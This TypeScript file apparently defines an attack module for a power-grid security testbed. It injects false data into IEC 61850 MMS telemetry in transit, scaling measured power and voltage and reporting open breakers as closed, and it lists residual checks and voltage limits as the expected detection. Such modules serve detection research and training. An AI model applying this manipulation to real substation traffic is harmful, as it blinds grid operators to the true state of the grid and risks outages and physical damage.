/** MMS_FALSE_DATA: changes what IEC 61850 stations answer to reads and report, on its way to the control centre. */

import { defineAttack } from './definition.ts'
import { techniques } from './techniques.ts'
import { isTelemetry, rewriteTelemetry } from './telemetry-frames.ts'

/** Multiplies the measurements of every IEC 61850 station, or of the one on `target_link`, and hides open breakers. */
export const mmsFalseData = defineAttack({
  type: 'MMS_FALSE_DATA',
  name: 'False data in MMS reads and reports',
  protocol: 'MMS',
  technique: techniques.reportingMessage,
  secondaryTechniques: [techniques.adversaryInTheMiddle, techniques.manipulationOfView],
  severity: 'HIGH',
  status: 'attacked',
  needs: 'MMS',
  params: {
    factor: { type: 'number', default: 1.2, min: -10, max: 10, description: 'on every measured power and voltage' },
    hide_open: { type: 'boolean', default: true, description: 'true: every breaker is reported as closed' },
  },
  frameEffect: 'floats of the data set multiplied, positions set to closed; the lengths stay',
  gridEffect: 'none; the control centre estimates another state and sees no open breaker',
  expectedDetection: 'residuals of the estimate, limits of voltage',
  links: (_, { outstations }) => outstations.filter(({ protocol }) => protocol === 'MMS').map(({ link }) => link),
  touches: (message) => message.protocol === 'MMS' && isTelemetry(message),
  alter(message, { context, params: { factor, hide_open } }) {
    const payload = rewriteTelemetry(context, message, {
      value: (_, value) => value * factor,
      ...(hide_open && { state: () => true }),
    })
    const description = `False data of ${message.srcNode}: measurements times ${factor}`
    return payload && { kind: 'modify', payload, description }
  },
})
